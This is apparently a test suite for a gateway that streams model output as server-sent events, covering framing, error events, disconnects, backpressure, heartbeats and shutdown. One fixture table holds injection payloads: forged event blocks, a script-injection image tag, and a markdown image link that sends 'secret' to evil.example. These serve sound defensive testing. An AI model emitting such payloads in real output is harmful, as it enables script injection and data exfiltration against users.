/** Items 11, 82 and 83: the framing of event streams, clients that leave, clients that read too slowly, and the end of the server. */
import { once } from 'node:events';
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import { BulkheadError } from '../../src/errors/bulkhead-error.ts';
import type { TenantExchange } from '../../src/gateway/exchange.ts';
import type { Route } from '../../src/gateway/route.ts';
import { openConnection, type RawConnection } from './support/raw-connection.ts';
import { expectError, secret, startEdge, streamRoute, tenantPost } from './support/test-edge.ts';

const request = `POST /v1/stream HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${secret}\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`;

function withStream(run: Parameters<typeof streamRoute>[1]): { readonly routes: readonly Route[] } {
  return { routes: [streamRoute('/v1/stream', run)] };
}

const never = (signal: AbortSignal): Promise<never> =>
  new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason as Error), { once: true }));

/** Everything the server sent, with the connection read to its end. */
async function drained(connection: RawConnection): Promise<string> {
  connection.write(request.replace('\r\n\r\n', '\r\nConnection: close\r\n\r\n'));
  await connection.closed();
  return connection.received();
}

describe('framing', () => {
  it('sends each event as one block, named or not, with the headers of a stream', async () => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        await writer.send('{"n":1}');
        await writer.send('{"n":2}', 'response.output_text.delta');
        await writer.send('[DONE]');
      }),
    );
    using connection = await openConnection(edge.port);
    connection.write(request);
    const answer = await connection.answer();
    expect(answer.status).toBe(200);
    expect(answer.headers).toMatchObject({ 'content-type': 'text/event-stream; charset=utf-8', 'cache-control': 'no-store' });
    expect(answer.headers['x-request-id']).toMatch(/^req_/);
    expect(answer.body).toBe('data: {"n":1}\n\nevent: response.output_text.delta\ndata: {"n":2}\n\ndata: [DONE]\n\n');
    connection.write(request);
    expect((await connection.answer()).status).toBe(200);
  });

  // biome-ignore format: a table
  const hostile: readonly (readonly [string, string])[] = [
    ['a forged event', 'x\n\ndata: {"fake":true}\n\n'],
    ['carriage returns', 'x\r\rdata: {"fake":true}\r\r'],
    ['both', 'x\r\n\r\ndata: {"fake":true}\r\n\r\nevent: error'],
    ['line separators', 'x\u2028\u2028data: {"fake":true}\u2028'],
    ['markup and escapes', '</script><img src=x onerror=alert(1)>\u001b[2J![](https://evil.example/?q=secret)'],
    ['a comment and an id', ': hello\nid: 7\nretry: 1'],
  ];

  it.each(hostile)('carries model text with %s as one event whose data is unchanged', async (_, text) => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        await writer.send(JSON.stringify({ text }));
        await writer.send(JSON.stringify({ last: true }));
      }),
    );
    const events = await eventsOf(edge.url);
    expect(events.map((data) => JSON.parse(data))).toEqual([{ text }, { last: true }]);
  });

  it('sends an HTTP/1.0 client the events without chunks, ended by the connection', async () => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        await writer.send('{"n":"ü"}');
        await writer.send('[DONE]');
      }),
    );
    using connection = await openConnection(edge.port);
    connection.write(request.replace('HTTP/1.1', 'HTTP/1.0'));
    await connection.closed();
    const [head, ...body] = connection.received().split('\r\n\r\n');
    expect(head?.toLowerCase()).not.toContain('transfer-encoding');
    expect(body.join('\r\n\r\n')).toBe('data: {"n":"ü"}\n\ndata: [DONE]\n\n');
  });

  it('splits data with any line end, should it ever not be JSON', async () => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        await writer.send('a\r\nb\nc\rdata: d');
      }),
    );
    using connection = await openConnection(edge.port);
    expect(await drained(connection)).toContain('data: a\ndata: b\ndata: c\ndata: data: d\n\n');
  });

  it('takes an event name that is no constant for a bug of ours', async () => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        await writer.send('{}', 'x\ndata: y');
      }),
    );
    using connection = await openConnection(edge.port);
    connection.write(request);
    expectError(await connection.answer(), { status: 500, code: 'internal_error' });
  });

  it('keeps the order and the count of 10,000 events sent in one go', async () => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        for (let n = 0; n < 10_000; n++) await writer.send(JSON.stringify({ n }));
      }),
    );
    const events = await eventsOf(edge.url);
    expect(events.length).toBe(10_000);
    expect(events.every((data, n) => data === `{"n":${n}}`)).toBe(true);
  });
});

describe('errors', () => {
  it('answers an error before the first event as an ordinary error', async () => {
    await using edge = await startEdge(
      withStream(async () => {
        throw new BulkheadError('queue_full', 'the queue is full', { retryAfterMs: 1_500, details: { limit: 100 } });
      }),
    );
    using connection = await openConnection(edge.port);
    connection.write(request);
    const answer = await connection.answer();
    expectError(answer, { status: 429, code: 'queue_full' });
    expect(answer.headers).toMatchObject({ 'retry-after': '2', 'retry-after-ms': '1500', 'x-should-retry': 'true' });
    expect(JSON.parse(answer.body)).toMatchObject({ error: { limit: 100 } });
  });

  it('sends an error after the first event as the last event, which the official SDK throws', async () => {
    await using edge = await startEdge({
      routes: [
        streamRoute('/v1/chat/completions', async (writer) => {
          await writer.send(JSON.stringify({ id: 'x', object: 'chat.completion.chunk', choices: [] }));
          throw new BulkheadError('upstream_timeout', 'the model did not answer in time');
        }),
      ],
    });
    const client = new OpenAI({ baseURL: `${edge.url}/v1`, apiKey: secret, maxRetries: 0 });
    const stream = await client.chat.completions.create({ model: 'm', messages: [], stream: true });
    const seen: unknown[] = [];
    const reading = (async () => {
      for await (const chunk of stream) seen.push(chunk);
    })();
    await expect(reading).rejects.toMatchObject({ error: { code: 'upstream_timeout', type: 'upstream_error', param: null } });
    expect(seen.length).toBe(1);
  });

  it('shows nothing of an unexpected error, and logs its stack once without its message', async () => {
    await using edge = await startEdge(
      withStream(async (writer) => {
        await writer.send('{}');
        throw new Error(`password=${secret}`);
      }),
    );
    const events = await eventsOf(edge.url);
    expect(events.length).toBe(2);
    expect(JSON.parse(events[1] ?? '')).toMatchObject({ error: { code: 'internal_error', type: 'server_error', param: null } });
    expect(events.join()).not.toContain(secret);
    const logged = edge.log.filter((record) => record.stack !== undefined);
    expect(logged.length).toBe(1);
    expect(logged[0]?.stack).toMatch(/^Error\n\s+at /);
    expect(JSON.stringify(edge.log)).not.toContain(secret);
  });
});

describe('clients that leave', () => {
  it('aborts the producer at once when the client closes mid-stream', async () => {
    const reasons: unknown[] = [];
    const ended = Promise.withResolvers<void>();
    await using edge = await startEdge(
      withStream(async (writer, { signal }) => {
        await writer.send('{}');
        await never(signal).catch((reason: unknown) => reasons.push(reason));
        ended.resolve();
      }),
    );
    using connection = await openConnection(edge.port);
    connection.write(request);
    await connection.until('data: {}');
    connection.socket.destroy();
    await ended.promise;
    expect(reasons).toEqual([expect.objectContaining({ code: 'client_closed_request' })]);
    await expect.poll(() => edge.gateway.openExchanges()).toBe(0);
    expect(edge.log.find((record) => record.message === 'answered')).toMatchObject({ status: 499, route: '/v1/stream' });
  });

  it('aborts a handler that has not answered yet, and a body that is still on its way', async () => {
    const aborted = Promise.withResolvers<void>();
    const started = Promise.withResolvers<void>();
    const route = tenantPost('/v1/slow', async ({ signal }: TenantExchange) => {
      signal.addEventListener('abort', () => aborted.resolve());
      started.resolve();
      return never(signal);
    });
    await using edge = await startEdge({ routes: [route] });
    using waiting = await openConnection(edge.port);
    waiting.write(request.replace('/v1/stream', '/v1/slow'));
    await started.promise;
    waiting.socket.destroy();
    await aborted.promise;
    using sending = await openConnection(edge.port);
    sending.write(request.replace('/v1/stream', '/v1/slow').replace('Content-Length: 2', 'Content-Length: 200'));
    await expect.poll(() => edge.gateway.openExchanges()).toBe(1);
    sending.socket.destroy();
    await expect.poll(() => edge.gateway.openExchanges()).toBe(0);
    expect(edge.log.filter((record) => record.stack !== undefined)).toEqual([]);
  });

  it('still runs a producer whose client left before its first event, so that it can release what it holds', async () => {
    const handed = Promise.withResolvers<void>();
    const left = Promise.withResolvers<void>();
    const released = Promise.withResolvers<string>();
    const route: Route = {
      auth: 'tenant', method: 'POST', path: '/v1/stream', body: 'json', spends: true,
      async handle(exchange) {
        exchange.signal.addEventListener('abort', () => left.resolve());
        handed.resolve();
        await left.promise;
        return { kind: 'events', run: async (writer) => released.resolve(String(await writer.send('{}'))) };
      },
    }; // biome-ignore format: short
    await using edge = await startEdge({ routes: [route] });
    using connection = await openConnection(edge.port);
    connection.write(request);
    await handed.promise;
    connection.socket.destroy();
    expect(await released.promise).toBe('undefined');
  });
});

describe('clients that read too slowly', () => {
  const event = JSON.stringify({ text: 'x'.repeat(4_000) });

  it('lets the producer wait while the client does not read, and goes on when it does', async () => {
    let sent = 0;
    let waits = 0;
    await using edge = await startEdge({
      ...withStream(async (writer) => {
        for (; sent < 3_000; sent++) {
          const full = writer.send(event);
          if (full === undefined) continue;
          waits++;
          await full;
        }
      }),
      bounds: { streamBacklogBytesMax: 65_536 },
    });
    using connection = await openConnection(edge.port);
    connection.socket.pause();
    connection.write(request);
    await expect.poll(() => waits).toBeGreaterThan(0);
    expect(sent).toBeLessThan(3_000);
    connection.socket.resume();
    const answer = await connection.answer();
    expect(answer.body.length).toBe(3_000 * `data: ${event}\n\n`.length);
  });

  it('drops a client whose socket stays full, and aborts its producer', async () => {
    const aborted = Promise.withResolvers<unknown>();
    await using edge = await startEdge({
      ...withStream(async (writer, { signal }) => {
        signal.addEventListener('abort', () => aborted.resolve(signal.reason));
        while (!signal.aborted) await writer.send(event);
      }),
      bounds: { streamBacklogBytesMax: 65_536, streamStallMaxMs: 200, sweepMs: 20 },
    });
    using connection = await openConnection(edge.port);
    connection.socket.pause();
    connection.write(request);
    expect(await aborted.promise).toMatchObject({ code: 'client_closed_request' });
    await expect.poll(() => edge.gateway.openExchanges()).toBe(0);
    expect(edge.log.find((record) => record.reason !== undefined)).toMatchObject({ reason: 'stall', tenantId: 'acme' });
  });

  it('drops a client that does not take the end of its stream', async () => {
    const large = JSON.stringify({ text: 'x'.repeat(16_000_000) });
    await using edge = await startEdge({
      ...withStream(async (writer) => {
        void writer.send(large);
      }),
      bounds: { streamStallMaxMs: 200, sweepMs: 20 },
    });
    using connection = await openConnection(edge.port);
    connection.socket.pause();
    connection.write(request);
    await expect.poll(() => edge.log.find((record) => record.reason !== undefined)).toMatchObject({ reason: 'stall' });
    await expect.poll(() => edge.gateway.openExchanges()).toBe(0);
  });

  it('drops a client when more than the cap waits for it, should a producer not wait', async () => {
    const aborted = Promise.withResolvers<void>();
    await using edge = await startEdge({
      ...withStream(async (writer, { signal }) => {
        signal.addEventListener('abort', () => aborted.resolve());
        while (!signal.aborted) {
          void writer.send(event);
          await new Promise((resolve) => setImmediate(resolve));
        }
      }),
      bounds: { streamBacklogBytesMax: 65_536 },
    });
    using connection = await openConnection(edge.port);
    connection.socket.pause();
    connection.write(request);
    await aborted.promise;
    expect(edge.log.find((record) => record.reason !== undefined)).toMatchObject({ reason: 'backlog' });
    await expect.poll(() => edge.gateway.openExchanges()).toBe(0);
  });

  it('sends one event larger than the cap to a client that reads', async () => {
    const large = JSON.stringify({ text: 'x'.repeat(1_000_000) });
    await using edge = await startEdge({
      ...withStream(async (writer) => {
        await writer.send(large);
        await writer.send('[DONE]');
      }),
      bounds: { streamBacklogBytesMax: 65_536 },
    });
    expect(await eventsOf(edge.url)).toEqual([large, '[DONE]']);
  });
});

describe('silence and time', () => {
  it('sends comments into the silence of a stream that has begun', async () => {
    const goOn = Promise.withResolvers<void>();
    await using edge = await startEdge({
      ...withStream(async (writer) => {
        await writer.send('{"n":1}');
        await goOn.promise;
        await writer.send('{"n":2}');
      }),
      bounds: { heartbeatMs: 30, sweepMs: 10 },
    });
    using connection = await openConnection(edge.port);
    connection.write(request);
    await connection.until(': keep-alive\n\n');
    goOn.resolve();
    const { body } = await connection.answer();
    expect(body.replaceAll(': keep-alive\n\n', '')).toBe('data: {"n":1}\n\ndata: {"n":2}\n\n');
  });

  it('ends a stream, or an answer that does not come, when its time is over', async () => {
    const route = tenantPost('/v1/slow', ({ signal }) => never(signal));
    await using edge = await startEdge({
      routes: [route, ...withStream(async (writer, { signal }) => {
        await writer.send('{}');
        await never(signal);
      }).routes],
      bounds: { streamDurationMaxMs: 100, sweepMs: 10 },
    }); // biome-ignore format: short
    using connection = await openConnection(edge.port);
    connection.write(request);
    const { body } = await connection.answer();
    expect(JSON.parse(body.split('data: ')[2] ?? '')).toMatchObject({ error: { code: 'duration_exceeded' } });
    connection.write(request.replace('/v1/stream', '/v1/slow'));
    const late = await connection.answer();
    expectError(late, { status: 504, code: 'duration_exceeded' });
    expect(late.headers['x-should-retry']).toBe('false');
  });
});

describe('the end of the server', () => {
  it('lets a running stream finish, and refuses what comes after', async () => {
    const goOn = Promise.withResolvers<void>();
    const edge = await startEdge(
      withStream(async (writer) => {
        await writer.send('{"n":1}');
        await goOn.promise;
        await writer.send('[DONE]');
      }),
    );
    using streaming = await openConnection(edge.port);
    using idle = await openConnection(edge.port);
    idle.write('GET /livez HTTP/1.1\r\nHost: x\r\n\r\n');
    await idle.answer();
    streaming.write(request);
    await streaming.until('{"n":1}');
    const closing = edge.gateway.close();
    await idle.closed();
    await expect(openAndAsk(edge.port)).rejects.toThrow();
    goOn.resolve();
    expect((await streaming.answer()).body).toBe('data: {"n":1}\n\ndata: [DONE]\n\n');
    await closing;
    expect(edge.gateway.openExchanges()).toBe(0);
  });

  it('answers a request that was still arriving with 503, and closes its connection', async () => {
    const goOn = Promise.withResolvers<void>();
    const route = tenantPost('/v1/slow', async () => goOn.promise);
    const edge = await startEdge({ routes: [route] });
    using running = await openConnection(edge.port);
    using arriving = await openConnection(edge.port);
    running.write(request.replace('/v1/stream', '/v1/slow'));
    arriving.write('GET /livez HTTP/1.1\r\nHo');
    await expect.poll(() => edge.gateway.openExchanges()).toBe(1);
    const closing = edge.gateway.close();
    arriving.write('st: x\r\n\r\n');
    const refused = await arriving.answer();
    expectError(refused, { status: 503, code: 'shutting_down' });
    expect(refused.headers).toMatchObject({ connection: 'close', 'retry-after': '1', 'x-should-retry': 'true' });
    goOn.resolve();
    expect((await running.answer()).headers['connection']).toBe('close');
    await closing;
  });

  it('cuts what does not finish in the grace period, with an error event or an error answer', async () => {
    const route = tenantPost('/v1/slow', () => new Promise(() => undefined));
    const edge = await startEdge({
      routes: [route, ...withStream(async (writer, { signal }) => {
        await writer.send('{"n":1}');
        await never(signal);
      }).routes],
      bounds: { shutdownGraceMs: 50 },
    }); // biome-ignore format: short
    using streaming = await openConnection(edge.port);
    using waiting = await openConnection(edge.port);
    streaming.write(request);
    await streaming.until('{"n":1}');
    waiting.write(request.replace('/v1/stream', '/v1/slow'));
    await expect.poll(() => edge.gateway.openExchanges()).toBe(2);
    await edge.gateway.close();
    const { body } = await streaming.answer();
    expect(JSON.parse(body.split('data: ')[2] ?? '')).toMatchObject({ error: { code: 'shutting_down' } });
    expectError(await waiting.answer(), { status: 503, code: 'shutting_down' });
    expect(edge.gateway.openExchanges()).toBe(0);
  });
});

async function eventsOf(url: string): Promise<string[]> {
  const headers = { authorization: `Bearer ${secret}`, 'content-type': 'application/json' };
  const text = await (await fetch(`${url}/v1/stream`, { method: 'POST', headers, body: '{}' })).text();
  expect(text.endsWith('\n\n')).toBe(true);
  return text
    .slice(0, -2)
    .split('\n\n')
    .map((block) => block.replace(/^data: /, ''));
}

async function openAndAsk(port: number): Promise<void> {
  const { connect } = await import('node:net');
  const socket = connect(port, '127.0.0.1');
  await once(socket, 'connect');
  socket.destroy();
}
